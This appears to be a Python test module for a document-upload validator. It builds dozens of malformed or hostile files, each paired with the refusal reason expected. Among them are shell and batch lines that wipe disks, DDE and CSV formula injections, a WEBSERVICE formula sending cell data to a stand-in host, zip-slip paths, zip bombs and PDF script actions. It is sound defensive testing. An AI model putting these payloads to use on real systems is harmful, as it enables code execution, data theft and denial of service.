"""Files that are no papers, each as an upload would bring it, with a word of the sentence that refuses it."""

import io
import struct
import zipfile

import pikepdf
from made_files import (
    OOXML,
    chunk,
    jpeg,
    new_pdf,
    odf,
    odf_parts,
    ole,
    ooxml,
    ooxml_parts,
    pdf_bytes,
    pdf_with,
    png,
    relations,
    saved,
    zipped,
)

NAME = pikepdf.Name
DICTIONARY = pikepdf.Dictionary
ZEROES = b"\x00" * (40 << 20)


def with_root(**entries):
    def change(pdf):
        for key, value in entries.items():
            pdf.Root[f"/{key}"] = value

    return pdf_with(change)


def with_action(name, **more):
    return with_root(OpenAction=DICTIONARY(S=NAME(f"/{name}"), **more))


def with_annotation(subtype, **more):
    def change(pdf):
        note = DICTIONARY(Type=NAME.Annot, Subtype=NAME(f"/{subtype}"), Rect=[0, 0, 9, 9], **more)
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([note]))

    return pdf_with(change)


def with_attachment():
    def change(pdf):
        pdf.attachments["budget.xlsx"] = b"PK a workbook"

    return pdf_with(change)


def with_script_in_page():
    def change(pdf):
        pdf.pages[0].obj.AA = DICTIONARY(O=DICTIONARY(S=NAME.JavaScript, JS="app.alert(1)"))

    return pdf_with(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


def with_named_script():
    def change(pdf):
        action = pdf.make_indirect(DICTIONARY(S=NAME.JavaScript, JS=pdf.make_stream(b"app.alert(1)")))
        pdf.Root.Names = DICTIONARY(JavaScript=DICTIONARY(Names=["a", action]))

    return pdf_with(change)


def encrypted(**options):
    return saved(new_pdf(), encryption=pikepdf.Encryption(**options))


def spoilt(data, place, junk=b"\x00" * 200):
    return data[:place] + junk + data[place + len(junk) :]


def with_content_elsewhere():
    def change(pdf):
        stream = pdf.make_stream(b"x")
        stream.F = "https://elsewhere.example/page"
        pdf.pages[0].obj.Contents = stream

    return pdf_with(change)


def with_part(name, content, type_, kind="docx"):
    """An Office file with one part more, whose type its list of contents tells."""
    parts = ooxml_parts(kind)
    told = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace("</Types>", told)
    return zipped(parts | {name: content})


def with_field(*pieces):
    """A Word document with a field whose command is written in so many pieces."""
    written = "".join(f"<w:instrText>{piece}</w:instrText>" for piece in pieces)
    fields = f'<w:fldChar w:fldCharType="begin"/>{written}<w:fldChar w:fldCharType="end"/>'
    return ooxml(extra={"word/document.xml": f'<w:document xmlns:w="urn:w">{fields}</w:document>'})


def tied(kind, target):
    return relations((kind, target, ""))


def table_with_formula_at_a_seam():
    """The file is read in pieces of a megabyte; one of them ends in the middle of the formula."""
    rows = b"a,b\n" + b"1,2\n" * ((1 << 18) - 3)
    return rows + b"1,%s\n" % (b"2" * ((1 << 20) - len(rows) - 8)) + b"=HYPERLINK(1),2\n"


def deep_pdf():
    nested = "[" * 3000 + "]" * 3000
    return pdf_bytes().replace(b"/Type /Catalog", b"/Type /Catalog /Deep " + nested.encode(), 1)


def wide_page():
    """A page whose 3 GB of blanks pack to three megabytes, twice over."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive, archive.open("a", "w") as part:
        for _ in range(40):
            part.write(ZEROES)
    content = packed.getvalue()
    with zipfile.ZipFile(packed) as archive:
        entry = archive.getinfo("a")
    start = entry.header_offset + 30 + struct.unpack("<HH", content[26:30])[0] + struct.unpack("<HH", content[26:30])[1]
    raw = content[start : start + entry.compress_size]
    pdf = new_pdf()
    stream = pdf.make_stream(b"")
    stream.write(b"\x78\x01" + raw + b"\x00\x00\x00\x00", filter=NAME.FlateDecode)
    pdf.pages[0].obj.Contents = stream
    return saved(pdf, compress_streams=False)


def lying_zip():
    """A part that says it is one byte long and is longer."""
    data = bytearray(ooxml(extra={"word/more.xml": b"<x>" + b"a" * 5000 + b"</x>"}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/more.xml"))
    data[at + 24 : at + 28] = struct.pack("<I", 1)
    return bytes(data)


def crowded_zip():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in ooxml_parts().items():
            archive.writestr(name, content)
        for number in range(12_000):
            archive.writestr(f"word/{number}.txt", b"")
    return out.getvalue()


def overlapping_zip():
    """Two entries of the list that stand for the same packed bytes."""
    data = ooxml(extra={"word/aaaa.bin": ZEROES[: 1 << 20], "word/bbbb.bin": b"x"})
    at, end = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/bbbb.bin")), data.rfind(b"PK\x05\x06")
    first = data.rfind(b"PK\x01\x02", 0, data.rfind(b"word/aaaa.bin"))
    twin = bytearray(data[first:at])
    twin[46:59] = b"word/bbbb.bin"
    return data[:at] + bytes(twin) + data[end:]


def locked_zip():
    data = bytearray(ooxml())
    at = data.rfind(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


def linking(address, kind="docx"):
    """An Office file with a link behind words."""
    folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
    return ooxml(kind, {f"{folder}/_rels/a.rels": relations(("hyperlink", address, "External"))})


def computing(formula, element="f"):
    sheet = f"<worksheet><sheetData><c><{element}>{formula}</{element}><v>1</v></c></sheetData></worksheet>"
    return ooxml("xlsx", {"xl/worksheets/sheet1.xml": sheet})


def odf_linking(address):
    return odf(extra={"content.xml": f'<a xmlns:x="urn:x"><x:a x:href="{address}">Read</x:a></a>'})


def odf_computing(formula):
    return odf("spreadsheet", {"content.xml": f'<a xmlns:t="urn:t"><t:cell t:formula="{formula}"/></a>'})


def private_key(kind):
    return f"Minutes\n-----BEGIN {kind}-----\nMIIEpAIBAAKCAQEA\n-----END {kind}-----\n".encode()


LINKS = {
    "link to a disk": ("b.docx", lambda: linking("file:///S:/a/x.docx"), "a link to “file:///S:/a/x.docx”"),
    "link to a drive": ("b.docx", lambda: linking("C:\\Users\\x.docx"), "holds a link to"),
    "link to a share": ("b.xlsx", lambda: linking("\\\\server\\x.docx", "xlsx"), "holds a link to"),
    "link to a share with slashes": ("b.docx", lambda: linking("//server/x.docx"), "holds a link to"),
    "link to a tool of Windows": ("b.docx", lambda: linking("ms-msdt:/id PCWDiagnostic"), "“ms-msdt:/id"),
    "link to a search of Windows": ("b.pptx", lambda: linking("search-ms:query=x", "pptx"), "holds a link to"),
    "link to a script": ("b.xlsx", lambda: linking("javascript:alert(1)", "xlsx"), "holds a link to"),
    "link to a script in pieces": ("b.docx", lambda: linking(" java&#10;script:alert(1)"), "holds a link to"),
    "link that holds its page": ("b.docx", lambda: linking("data:text/html;base64,AA"), "holds a link to"),
    "link within a field": ("b.docx", lambda: with_field(' HYPERLINK "file:///x.exe"'), "holds a link to"),
    "link in pieces of a field": ("b.docx", lambda: with_field(" HYPER", "LINK \\l ms-ms", "dt:/x"), "a link to"),
    "link within a field to a share": ("b.docx", lambda: with_field(r" HYPERLINK \\\\server\\x"), "holds a link to"),
    "link behind a drawing": (
        "b.docx", lambda: ooxml(extra={"word/document.xml": '<v><shape href="file:///x"/></v>'}), "holds a link to",
    ),
    "base of links elsewhere": (
        "b.docx", lambda: ooxml(extra={"docProps/app.xml": "<a><HyperlinkBase>file:///S</HyperlinkBase></a>"}), "link",
    ),
    "slide that starts a program": (
        "b.pptx", lambda: ooxml("pptx", {"ppt/slides/a.xml": '<a><b action="ppaction://program"/></a>'}), "starts a",
    ),
    "OpenDocument link to a disk": ("b.odt", lambda: odf_linking("file:///x"), "holds a link to"),
    "OpenDocument link to a macro": ("b.odt", lambda: odf_linking("vnd.sun.star.script:a"), "holds a link to"),
    "PDF with a link to a tool of Windows": (
        "a.pdf", lambda: with_annotation("Link", A=DICTIONARY(S=NAME.URI, URI="ms-msdt:/x")), "holds a link to",
    ),
}  # fmt: skip
FORMULAS = {
    "formula that asks a machine": ("b.xlsx", lambda: computing('WEBSERVICE("https://e.example/"&amp;A1)'), "fetches"),
    "formula that asks by its full name": ("b.xlsx", lambda: computing('1+_xlfn.WEBSERVICE( "x")'), "fetches"),
    "formula that fetches a picture": (
        "b.xlsx",
        lambda: computing('_xlfn.IMAGE("https://e.example/a.png")'),
        "fetches",
    ),
    "formula that asks a server": ("b.xlsx", lambda: computing('RTD("x",,"y")'), "fetches"),
    "formula that starts a program": ("b.xlsx", lambda: computing("cmd|'/c calc'!A1"), "fetches"),
    "formula of a name": ("b.xlsx", lambda: computing("WEBSERVICE(A1)", "definedName"), "fetches"),
    "formula of a rule": ("b.xlsx", lambda: computing("WEBSERVICE(A1)", "formula1"), "fetches"),
    "formula that reads another file": ("b.xlsx", lambda: computing("'\\\\server\\[b.xlsx]S'!A1"), "fetches"),
    "formula that links to a disk": ("b.xlsx", lambda: computing('HYPERLINK("file:///x","Read")'), "holds a link to"),
    "formula that hides its link": ("b.xlsx", lambda: computing('HYPERLINK("fi"&amp;"le:///x")'), "fetches"),
    "formula of OpenDocument": ("b.ods", lambda: odf_computing("of:=WEBSERVICE([.A1])"), "fetches"),
    "formula of OpenDocument that reads another file": (
        "b.ods",
        lambda: odf_computing("of:=['file:///x.ods'#$S.A1]"),
        "fetches",
    ),
    "field of OpenDocument that asks a program": (
        "b.odt",
        lambda: odf(extra={"content.xml": "<a><dde-connection-decl/></a>"}),
        "outside of it",
    ),
    "field of OpenDocument that runs a macro": (
        "b.odt",
        lambda: odf(extra={"content.xml": "<a><execute-macro/></a>"}),
        "macros",
    ),
    "table with semicolons": ("b.csv", lambda: b"a;b\n=HYPERLINK(1);2\n", "holds a formula"),
    "table with semicolons, quoted": ("b.csv", lambda: b"a;b\n1;\"=cmd|'/c calc'!A1\"\n", "holds a formula"),
    "table with tabs": ("b.txt", lambda: b"a\tb\n1\t+SUM(A1)\n", "holds a formula"),
    "table with bars": ("b.txt", lambda: b"a|b\n1|=SUM(A1)\n", "holds a formula"),
    "table below a title": ("b.csv", lambda: b"Budget\n\na;b\n=HYPERLINK(1);2\n", "holds a formula"),
    "text that begins with a formula": ("b.txt", lambda: b"=HYPERLINK(1)\n", "holds a formula"),
    "text with a program's data": ("b.txt", lambda: b"Minutes\n\n@SUM|'/c calc'!A1\n", "holds a formula"),
}
KEYS = {
    f"private key ({kind})": ("notes.txt", lambda kind=kind: private_key(kind), "holds a private key")
    for kind in ("PRIVATE KEY", "RSA PRIVATE KEY", "OPENSSH PRIVATE KEY", "PGP PRIVATE KEY BLOCK")
} | {
    "private key (PuTTY)": ("a.csv", lambda: b"PuTTY-User-Key-File-3: ssh-ed25519\n", "holds a private key"),
    "private key at the seam of two pieces": (
        "a.txt", lambda: b"Minutes\n" * ((1 << 17) - 2) + private_key("EC PRIVATE KEY"), "holds a private key",
    ),
}  # fmt: skip

ODF_PICTURE = '<a xmlns:x="urn:x"><image x:href="https://elsewhere.example/spy.png"/></a>'
ODF_SCRIPT = '<a><event-listener href="vnd.sun.star.script:a.py$b?language=Python"/></a>'
EXTERNAL = relations(("attachedTemplate", "https://elsewhere.example/t.dotm", "External"))
LINKED = relations(("image", "https://elsewhere.example/spy.png", "External"))
SHARED = relations(("image", "file://server/share/x.png", ""))
BIG_XML = "<a>" + "b" * (20 << 20) + "</a>"
LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha">]><a>&b;</a>'

# name → (the name given, what makes its content, a word of the reason)
BAD_FILES = {
    "nothing": ("minutes.pdf", lambda: b"", "is empty"),
    "program": ("minutes.pdf", lambda: b"MZ\x90\x00\x03" + b"\x00" * 90, "is a program"),
    "program as picture": ("photo.jpg", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 90, "is a program"),
    "program of a Mac": ("report.docx", lambda: b"\xcf\xfa\xed\xfe" + b"\x00" * 90, "is a program"),
    "Java class": ("a.pdf", lambda: b"\xca\xfe\xba\xbe\x00\x00\x00\x34", "is a program"),
    "shortcut": ("Agenda.pdf.lnk", lambda: b"L\x00\x00\x00\x01\x14\x02\x00" + b"\x00" * 60, "is a program"),
    "shell script": ("notes.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "holds a script"),
    "batch file": ("notes.txt", lambda: b"@echo off\r\nformat c:\r\n", "holds a script"),
    "PHP": ("list.csv", lambda: b"<?php system('id'); ?>", "holds a script"),
    "Visual Basic script": ("a.txt", lambda: b'Set s = CreateObject("WScript.Shell")\n', "holds a script"),
    "PowerShell": ("a.txt", lambda: b"Write-Host hello\npowershell -enc AAAA\n", "holds a script"),
    "script late in a text": ("a.txt", lambda: b"Minutes\n" * 9000 + b"<script>alert(1)</script>", "holds a script"),
    "web page": ("minutes.pdf", lambda: b"<!DOCTYPE html><html><body>Minutes</body></html>", "web page"),
    "web page after blanks": ("minutes.txt", lambda: b"\xef\xbb\xbf \n\n<HTML><b>Minutes</b>", "web page"),
    "drawing that may hold scripts": ("plan.png", lambda: b"<svg xmlns='http://www.w3.org/2000/svg'/>", "web page"),
    "XML": ("data.csv", lambda: b"<?xml version='1.0'?><rows/>", "web page"),
    "web page before a PDF": ("a.pdf", lambda: b"<html><script>alert(1)</script>\n" + pdf_bytes(), "before the begin"),
    "words before a PDF": ("a.pdf", lambda: b"Hello\n" + pdf_bytes(), "before the beginning"),
    "program before a PDF": ("a.pdf", lambda: b"MZ\x90\x00" + pdf_bytes(), "is a program"),
    "PDF by its first line alone": ("a.pdf", lambda: b"%PDF-1.7\n<html><script>alert(1)</script></html>", "damaged"),
    "text that calls itself PDF": ("a.pdf", lambda: b"%PDF-", "damaged"),
    "PDF cut in half": ("a.pdf", lambda: pdf_bytes(9)[: len(pdf_bytes(9)) // 2], "damaged"),
    "PDF without its end": ("a.pdf", lambda: pdf_bytes(9)[:-40], "damaged"),
    "PDF whose table is spoilt": ("a.pdf", lambda: spoilt(pdf_bytes(9), pdf_bytes(9).rfind(b"xref")), "damaged"),
    "PDF whose middle is spoilt": (
        "a.pdf", lambda: spoilt(pdf_bytes(9), len(pdf_bytes(9)) // 3, b"\x00" * 400), "damaged",
    ),
    "PDF with an archive behind it": ("a.pdf", lambda: pdf_bytes() + ooxml(), "behind its end"),
    "PDF without pages": ("a.pdf", lambda: saved(pikepdf.new()), "no pages"),
    "PDF nested without end": ("a.pdf", deep_pdf, "damaged"),
    "PDF whose page unpacks without end": ("a.pdf", wide_page, "more memory or time"),
    "PDF with a password": ("a.pdf", lambda: encrypted(user="s", owner="o"), "needs a password"),
    "PDF with a password of the older kind": (
        "a.pdf", lambda: encrypted(user="s", owner="o", R=3, aes=False, metadata=False), "needs a password",
    ),
    "PDF with a script": ("a.pdf", lambda: with_action("JavaScript", JS="app.alert(1)"), "JavaScript"),
    "PDF with a script by name": ("a.pdf", with_named_script, "JavaScript"),
    "PDF with a script of a page": ("a.pdf", with_script_in_page, "JavaScript"),
    "PDF that starts a program": ("a.pdf", lambda: with_action("Launch", F="cmd.exe"), "starts or sends"),
    "PDF that sends what is typed": ("a.pdf", lambda: with_action("SubmitForm", F="https://e.example"), "starts or"),
    "PDF that opens another file": ("a.pdf", lambda: with_action("GoToR", F="other.pdf"), "starts or sends"),
    "PDF with a script behind a link": (
        "a.pdf", lambda: with_annotation("Link", A=DICTIONARY(S=NAME.URI, URI="javascript:x()")), "JavaScript",
    ),
    "PDF whose page lies elsewhere": ("a.pdf", with_content_elsewhere, "in another file"),
    "PostScript": ("a.pdf", lambda: b"%!PS-Adobe-3.0\nshowpage\n", "PostScript"),
    "PDF with an attachment": ("a.pdf", with_attachment, "attached"),
    "PDF with a file pinned to a page": ("a.pdf", lambda: with_annotation("FileAttachment"), "attached"),
    "PDF portfolio": ("a.pdf", lambda: with_root(Collection=DICTIONARY()), "attached"),
    "PDF with a form of XFA": ("a.pdf", lambda: with_root(AcroForm=DICTIONARY(XFA="x", Fields=[])), "XFA"),
    "PDF with a film": ("a.pdf", lambda: with_annotation("RichMedia"), "films"),
    "old Word": ("minutes.doc", lambda: ole("WordDocument"), "(DOC): save it as DOCX or PDF"),
    "old Word under another name": ("minutes.pdf", lambda: ole("WordDocument"), "(DOC)"),
    "old Excel": ("b.xls", lambda: ole("Workbook"), "(XLS)"),
    "old PowerPoint": ("b.ppt", lambda: ole("PowerPoint Document"), "(PPT)"),
    "saved e-mail": ("b.msg", lambda: ole("__substg1.0_0037001F"), "saved e-mail"),
    "encrypted Word": ("b.docx", lambda: ole("EncryptedPackage"), "is encrypted"),
    "rich text": ("b.rtf", lambda: b"{\\rtf1\\ansi Minutes}", "rich text"),
    "Word with macros": ("b.docx", lambda: ooxml(extra={"word/vbaProject.bin": b"x"}), "holds macros"),
    "Word with macros by its type": (
        "b.docx",
        lambda: ooxml(main_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "holds macros",
    ),
    "Excel with old macros": ("b.xlsx", lambda: ooxml("xlsx", {"xl/macrosheets/sheet1.xml": "<a/>"}), "holds macros"),
    "Word with controls": ("b.docx", lambda: ooxml(extra={"word/activeX/activeX1.bin": b"x"}), "holds macros"),
    "Word template": (
        "b.dotx",
        lambda: ooxml(main_type=f"{OOXML}.wordprocessingml.template.main+xml"),
        "is a template",
    ),
    "Word with a template elsewhere": ("b.docx", lambda: ooxml(extra={"word/_rels/a.rels": EXTERNAL}), "outside of it"),
    "Word with a picture elsewhere": ("b.docx", lambda: ooxml(extra={"word/_rels/a.rels": LINKED}), "outside of it"),
    "Word with a picture on a share": ("b.docx", lambda: ooxml(extra={"word/_rels/a.rels": SHARED}), "outside of it"),
    "Word with an embedded object": (
        "b.docx", lambda: ooxml(extra={"word/embeddings/oleObject1.bin": ole("Package")}), "embedded",
    ),
    "Word with an embedded object in another folder": (
        "b.docx",
        lambda: ooxml(extra={"word/a/one.bin": b"x", "word/_rels/a.rels": tied("oleObject", "a/one.bin")}), "embedded",
    ),
    "Word with an object under another name": ("b.docx", lambda: ooxml(extra={"word/a": ole("Package")}), "embedded"),
    "Word with a web archive within": (
        "b.docx", lambda: ooxml(extra={"word/a.mht": b"x", "word/_rels/a.rels": tied("aFChunk", "a.mht")}), "embedded",
    ),
    "Word with a control in another folder": (
        "b.docx", lambda: ooxml(extra={"word/a.xml": b"<a/>", "word/_rels/a.rels": tied("control", "a.xml")}), "macros",
    ),
    "Word with a field that starts a program": ("b.docx", lambda: with_field("DDEAUTO cmd /k"), "outside of it"),
    "Word with such a field in pieces": ("b.docx", lambda: with_field(" DD", "EAU", "TO cmd"), "outside of it"),
    "Word with a field that fetches a picture": (
        "b.docx", lambda: with_field(' INCLUDEPICTURE "https://elsewhere.example/a.png"'), "outside of it",
    ),
    "Excel with a link to a program": (
        "b.xlsx", lambda: ooxml("xlsx", {"xl/externalLinks/a.xml": "<a><ddeLink/></a>"}), "outside of it",
    ),
    "Excel that fetches data": (
        "b.xlsx", lambda: ooxml("xlsx", {"xl/connections.xml": "<a><connection/></a>"}), "outside of it",
    ),
    "Excel with old macros by their type": (
        "b.xlsx",
        lambda: with_part("xl/worksheets/a.xml", "<a/>", "application/vnd.ms-excel.macrosheet+xml", "xlsx"),
        "macros",
    ),
    "archive within Word": ("b.docx", lambda: ooxml(extra={"word/more.zip": zipped({"a": b"a"})}), "embedded"),
    "workbook within a workbook within Word": (
        "b.docx",
        lambda: ooxml(extra={"word/embeddings/a.xlsx": ooxml("xlsx", {"xl/embeddings/b.xlsx": ooxml("xlsx")})}),
        "embedded",
    ),
    "workbook with macros within Word": (
        "b.docx",
        lambda: ooxml(extra={"word/embeddings/a.xlsx": ooxml("xlsx", {"xl/vbaProject.bin": b"x"})}),
        "macros",
    ),
    "Word with declarations": ("b.docx", lambda: ooxml(extra={"word/document.xml": LAUGHS}), "declarations"),
    "Word with encrypted parts": ("b.docx", locked_zip, "is encrypted"),
    "Word without its text": ("b.docx", lambda: zipped(dict([*ooxml_parts().items()][:1])), "damaged"),
    "Word cut in half": ("b.docx", lambda: ooxml()[: len(ooxml()) // 2], "damaged"),
    "Word with a spoilt part": (
        "b.docx",
        lambda: spoilt(ooxml(extra={"word/a.bin": bytes(range(256)) * 40}), 900, b"\xff" * 60),
        "damaged",
    ),
    "Word behind other bytes": ("b.docx", lambda: b"PK\x03\x04" + b"\x00" * 400 + ooxml(), "damaged"),
    "zip bomb": ("b.docx", lambda: ooxml(extra={"word/a.xml": ZEROES}), "would unpack"),
    "zip bomb of many parts": (
        "b.xlsx", lambda: ooxml("xlsx", {f"xl/{n}.bin": ZEROES[: 12 << 20] for n in range(5)}), "would unpack",
    ),
    "zip bomb within": (
        "b.docx", lambda: ooxml(extra={"word/embeddings/a.xlsx": ooxml("xlsx", {"xl/a.bin": ZEROES})}), "would unpack",
    ),
    "zip of very many entries": ("b.docx", crowded_zip, "would unpack"),
    "zip that lies about its size": ("b.docx", lying_zip, "damaged"),
    "zip whose entries overlap": ("b.docx", overlapping_zip, ""),
    "zip that leads out of its folder": ("b.docx", lambda: ooxml(extra={"../../etc/cron.d/x": b"x"}), "lead out"),
    "zip with a drive": ("b.docx", lambda: ooxml(extra={"C:/x": b"x"}), "lead out"),
    "plain archive": ("b.zip", lambda: zipped({"a.pdf": pdf_bytes()}), "is an archive"),
    "archive under another name": ("b.docx", lambda: zipped({"a.exe": b"MZ"}), "is an archive"),
    "empty archive": ("b.docx", lambda: zipped({}), "is an archive"),
    "RAR": ("b.pdf", lambda: b"Rar!\x1a\x07\x01\x00" + b"\x00" * 50, "is an archive"),
    "gzip": ("b.csv", lambda: b"\x1f\x8b\x08\x00" + b"\x00" * 50, "is an archive"),
    "OpenDocument with macros": ("b.odt", lambda: odf(extra={"Basic/Standard/Module1.xml": "<a/>"}), "holds macros"),
    "OpenDocument tied to a macro": ("b.odt", lambda: odf(extra={"content.xml": ODF_SCRIPT}), "holds macros"),
    "OpenDocument with a picture elsewhere": (
        "b.odt", lambda: odf(extra={"content.xml": ODF_PICTURE}), "outside of it",
    ),
    "OpenDocument with an embedded object": ("b.odt", lambda: odf(extra={"Object 1": ole("Package")}), "embedded"),
    "encrypted OpenDocument": ("b.odt", lambda: odf(manifest="<encryption-data/>"), "is encrypted"),
    "OpenDocument template": ("b.ott", lambda: odf("text-template"), "is a template"),
    "OpenDocument drawing": ("b.odg", lambda: odf("graphics"), "is an archive"),
    "OpenDocument without its text": (
        "b.odt", lambda: zipped({k: v for k, v in odf_parts().items() if k != "content.xml"}), "damaged",
    ),
    "book of EPUB": ("b.epub", lambda: zipped({"mimetype": "application/epub+zip"}), "is an archive"),
    "GIF": ("b.png", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;", "not taken here"),
    "film": ("b.pdf", lambda: b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00" * 40, "not taken here"),
    "noise": ("b.pdf", lambda: bytes(range(256)) * 20, "not taken here"),
    "image of a disk": ("b.iso", lambda: b"\x00" * 0x8001 + b"CD001" + b"\x00" * 99, "of a kind that is not taken"),
    "PNG without its measures": (
        "b.png", lambda: png()[:8] + chunk(b"IHDR", b"") + chunk(b"IDAT", b"x") + chunk(b"IEND", b""), "damaged",
    ),
    "PNG cut off": ("b.png", lambda: png()[:-14], "damaged"),
    "PNG with a spoilt part": ("b.png", lambda: spoilt(png(), 45, b"\x01\x02"), "damaged"),
    "PNG of too many points": ("b.png", lambda: png(60_000, 60_000), "too many points"),
    "PNG of a hundred million points": (
        "b.png", lambda: png(10_000, 10_000), "too many points (10,000 by 10,000; at most 50 million",
    ),
    "JPEG of a hundred million points": ("b.jpg", lambda: jpeg(10_000, 10_000), "too many points"),
    "JPEG in very many parts": (
        "b.jpg", lambda: jpeg()[:2] + b"\xff\xfe\x00\x02\xff\xe0\x00\x07JFIF\x00" * 12_000 + jpeg()[2:], "small parts",
    ),
    "PNG with something behind": ("b.png", lambda: png() + b"<script>", "behind its picture"),
    "PNG without points": ("b.png", lambda: png()[:33] + chunk(b"IEND", b""), "damaged"),
    "JPEG cut off": ("b.jpg", lambda: jpeg()[:-2], "damaged"),
    "JPEG of too many points": ("b.jpg", lambda: jpeg(65_000, 65_000), "too many points"),
    "JPEG with an archive behind": ("b.jpg", lambda: jpeg() + ooxml(), "behind its picture"),
    "JPEG by its first bytes alone": ("b.jpg", lambda: b"\xff\xd8\xff" + b"<script>alert(1)</script>", "damaged"),
    "text in another alphabet": ("b.txt", lambda: "Minutes – £5".encode("cp1252"), "UTF-8"),
    "text in UTF-16": ("b.txt", lambda: "Minutes".encode("utf-16"), "UTF-8"),
    "text with control characters": ("b.txt", lambda: b"Minutes\x1b[2Jgone", ""),
    "text that turns round": ("b.txt", lambda: "Pay \u202e05 pounds".encode(), "control characters"),
    "table with a formula": ("b.csv", lambda: b"a,b\n=cmd|'/c calc'!A1,2\n", "holds a formula"),
    "script at the seam of two pieces": (
        "a.txt", lambda: b"Minutes\n" * ((1 << 17) - 1) + b"four<script>", "holds a script",
    ),
    "table with a formula at a seam": ("b.csv", table_with_formula_at_a_seam, "holds a formula"),
    "table with a formula below a long cell": (
        "b.csv", lambda: b"a,b\n" * 300 + b"1,%s\n=cmd|'/c calc'!A1,2\n" % (b"x" * 200_000), "holds a formula",
    ),
    "table with a formula below": (
        "b.csv", lambda: b"a,b\n" + b"1,2\n" * 5000 + b'"=HYPERLINK(""http://e.example"")",2\n', "holds a formula",
    ),
}  # fmt: skip
BAD_FILES |= LINKS | FORMULAS | KEYS
